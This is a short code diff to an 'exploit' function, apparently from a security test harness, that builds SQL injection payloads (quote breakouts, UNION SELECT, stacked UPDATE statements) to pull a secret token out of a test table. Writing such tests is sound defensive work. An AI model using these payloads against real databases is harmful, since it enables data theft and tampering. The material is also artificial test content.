@@ -22,10 +22,9 @@ def exploit(box, rng):
     claimant = token(rng, 16)
     make_table(box, "office.db", "claims (find_id integer, claimant text)", [(1, claimant)])
     name = "(SELECT claimant FROM claims)"
-    endings = sql(f"' || {name} || '") + sql(f"', {name}, 1) --")
+    endings = [f"{q} UNION SELECT {name} --" for q in "'\""] + sql(f"' || {name} || '")
     endings += [f"{q} || {name}{', 1' * n}) --" for q in ("'", '"', "\"'", "'\"") for n in range(4)]
     endings += [f"{q}{', 1' * n}); UPDATE finds SET place = {name}; --" for q in "'\"" for n in range(4)]
-    endings += [f"{q} UNION SELECT {name} --" for q in "'\""]
     said = [find for ending in endings for find in (["a" + ending, "seat 4"], ["hat", "a" + ending])]
     for half in (*cut_quotes(), *placeholders("place")):
         said += [[half, f", {name}, 1) --"], [half, f" || {name}, 1) --"], [half, f", {name}) --"]]
